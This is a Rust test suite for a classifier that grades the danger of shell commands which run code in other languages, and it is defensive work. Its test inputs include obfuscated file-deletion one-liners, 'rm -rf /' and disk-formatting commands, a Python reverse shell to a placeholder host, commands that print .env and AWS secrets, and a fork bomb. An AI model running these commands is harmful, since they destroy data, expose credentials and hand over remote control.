//! Texts of other languages on a command line: the calls in them that do harm, and what hides them.
#![allow(clippy::unwrap_used, clippy::panic)]

use proptest::prelude::*;
use sayso_core::reading::Reading;
use sayso_core::{Action, Severity, strict};
use sayso_reading::read;
use serde_json::json;

use Severity::{Critical, High, Low};

fn argv(words: &[&str]) -> Reading {
    let json = json!({"kind":"shell","argv":words,"cwd":"/home/dev/project"});
    let action: Action = strict::parse(json.to_string().as_bytes()).unwrap();
    read(&action)
}

fn python(source: &str) -> Reading {
    argv(&["python3", "-c", source])
}

fn node(source: &str) -> Reading {
    argv(&["node", "-e", source])
}

#[test]
fn a_deletion_is_found_however_its_call_is_written() {
    for source in [
        "import os; os.remove('a')",
        "from os import remove; remove('a'); import os; os.unlink('a')",
        "import os as o; o.unlink('a')",
        "import shutil as s\ns.rmtree('src')",
        "from shutil import rmtree as r; r('src')",
        "__import__('os').remove('a')",
        "import os; getattr(os, 'rem' + 'ove')('a')",
        "from pathlib import Path; Path('a').unlink()",
        "from pathlib import Path\np = Path('a')\np.unlink()",
        "import os; [os.remove(f) for f in x]",
        "import os; list(map(os.remove, x))",
        "import os; os.system('rm ' + 'a')",
        "import subprocess; subprocess.run(['rm', 'a'])",
        "import subprocess; subprocess.run('rm a', shell=True)",
        "import os; os.execvp('rm', ['rm', 'a'])",
        "eval('__import__(\"os\").remove(\"a\")')",
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2EnKQ=='))",
        "exec(''.join(map(chr, x)))",
    ] {
        assert!(python(source).severity >= High, "{source}: {:?}", python(source));
    }
    for source in [
        "require('fs').unlinkSync('a')",
        "const fs = require('node:fs'); fs.rmSync('src', {recursive: true})",
        "const { unlinkSync: u } = require('fs'); u('a')",
        "require('fs/promises').rm('src', {recursive: true})",
        "import('fs').then(f => f.rmSync('src'))",
        "require('child_process').exec('rm a')",
        "const cp = require('child_process'); cp.spawnSync('rm', ['a'])",
        "files.forEach(fs.unlinkSync)",
        "eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk='))",
        "require('child_' + 'process').execSync(`rm ${x}`)",
    ] {
        assert!(node(source).severity >= High, "{source}: {:?}", node(source));
    }
    for words in [
        &["perl", "-e", "unlink 'a'"][..],
        &["perl", "-e", "unlink for glob('*')"],
        &["perl", "-e", "`rm a`"],
        &["perl", "-e", "exec 'rm', 'a'"],
        &["ruby", "-e", "File.delete('a')"],
        &["ruby", "-rfileutils", "-e", "FileUtils.rm_rf 'src'"],
        &["ruby", "-e", "%x(rm a)"],
        &["php", "-r", "unlink('a');"],
        &["php", "-r", "array_map('unlink', glob('*'));"],
        &["lua", "-e", "os.remove('a')"],
        &["awk", "BEGIN{system(\"rm a\")}"],
        &["awk", "{ \"rm a\" | getline }"],
        &["julia", "-e", "rm(\"src\", recursive=true)"],
    ] {
        assert!(argv(words).severity >= High, "{words:?}: {:?}", argv(words));
    }
}

#[test]
fn plain_computing_passes() {
    for source in [
        "print(1)",
        "import json, sys; print(json.load(sys.stdin)['a'])",
        "l = [1]; l.remove(1)",
        "import re; re.compile('x')",
        "open('out.txt', 'w').write('x')",
        "import os; os.makedirs('x', exist_ok=True)",
        "import shutil; shutil.rmtree('build')",
        "print('os.remove(\"a\")')  # os.system('rm -rf /')",
        "import subprocess; subprocess.run(['git', 'status'])",
    ] {
        assert_eq!(python(source).severity, Low, "{source}: {:?}", python(source));
    }
    for source in
        ["console.log('rm -rf /')", "/x/.exec('x')", "new Map().delete('a')", "// fs.rmSync('/')\n1"]
    {
        assert_eq!(node(source).severity, Low, "{source}: {:?}", node(source));
    }
}

#[test]
fn destruction_at_large_is_critical_in_any_language() {
    for words in [
        &["python3", "-c", "import shutil; shutil.rmtree('/')"][..],
        &["python3", "-c", "import os, shutil; shutil.rmtree(os.path.expanduser('~'))"],
        &["node", "-e", "require('child_process').execSync('rm -rf /')"],
        &["perl", "-e", "system \"rm -rf /\""],
        &["ruby", "-e", "FileUtils.rm_rf('/etc')"],
        &["awk", "BEGIN{system(\"mkfs.ext4 /dev/sda\")}"],
        &[
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('sh')",
        ],
    ] {
        assert_eq!(argv(words).severity, Critical, "{words:?}: {:?}", argv(words));
    }
}

#[test]
fn a_secret_that_is_read_or_printed_is_disclosed() {
    for source in ["print(open('.env').read())", "import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])"] {
        assert!(python(source).severity >= High, "{source}");
    }
    assert!(node("console.log(process.env.API_TOKEN)").severity >= High);
    assert_eq!(python("import os; print(os.environ['HOME'])").severity, Low);
}

/// Constants that double one another, calls in calls, assignments in a row: time and memory stay in proportion.
#[test]
fn sources_made_to_be_slow_are_read() {
    let doubling: String = std::iter::once("a0='xxxxxxxxxx'\n".to_owned())
        .chain((1..400).map(|i| format!("a{i}=a{}+a{}\n", i - 1, i - 1)))
        .collect();
    for source in [
        doubling,
        "f(".repeat(20_000),
        "a=".repeat(20_000),
        "[".repeat(40_000),
        "os.path.join(".repeat(8_000),
        "import a as b, ".repeat(6_000),
        "'".repeat(60_000),
        "while True: os.fork()\n".repeat(2_000),
    ] {
        let _ = python(&source);
        let _ = node(&source);
        let _ = argv(&["perl", "-e", &source]);
        let _ = argv(&["ruby", "-e", &source]);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_source_is_read_without_a_panic(
        program in prop_oneof![
            Just(["python3", "-c"]), Just(["node", "-e"]), Just(["perl", "-e"]), Just(["ruby", "-e"]), Just(["php", "-r"]),
            Just(["lua", "-e"]), Just(["julia", "-e"]), Just(["expect", "-c"]), Just(["osascript", "-e"]),
        ],
        source in "[a-z(){}\\[\\]'\"`$%#<>=.,;:|&\\\\/ \n0-9éqwx]{0,60}",
    ) {
        let _ = argv(&[program[0], program[1], &source]);
    }
}
